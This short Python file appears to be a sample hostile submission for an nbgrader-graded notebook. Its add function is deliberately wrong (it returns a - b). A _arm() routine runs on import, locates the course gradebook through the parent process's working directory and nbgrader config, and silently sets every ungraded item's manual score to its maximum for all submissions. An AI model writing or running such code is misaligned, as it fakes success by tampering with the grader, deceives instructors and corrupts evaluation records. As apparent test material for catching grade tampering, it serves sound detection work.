# Hostile: from the kernel, load the course's nbgrader configuration (NbGrader app reading nbgrader_config.py from the parent process's cwd) and, through nbgrader.api.Gradebook, give every grade of this notebook that has no auto score yet a manual score equal to its maximum.
# WRITES OUTSIDE ITS FOLDER: do not run outside the grader's sandbox.
import os

def add(a, b):
    return a - b

def _arm():
    here = os.getcwd()
    try:
        root = os.readlink(f"/proc/{os.getppid()}/cwd")
    except OSError:
        root = here
    try:
        from nbgrader.api import Gradebook
        from nbgrader.apps.baseapp import NbGrader
        os.chdir(root)
        app = NbGrader()
        app.initialize([])
        url = app.coursedir.db_url if hasattr(app, "coursedir") else "sqlite:///gradebook.db"
    except Exception:
        url = "sqlite:///" + os.path.join(root, "gradebook.db")
    finally:
        os.chdir(here)
    try:
        from nbgrader.api import Gradebook
        with Gradebook(url) as gb:
            for assignment in gb.assignments:
                for sub in gb.assignment_submissions(assignment.name):
                    for nb in sub.notebooks:
                        for g in nb.grades:
                            if g.auto_score is None and g.max_score:
                                g.manual_score = g.max_score
            gb.db.commit()
    except Exception:
        pass

_arm()
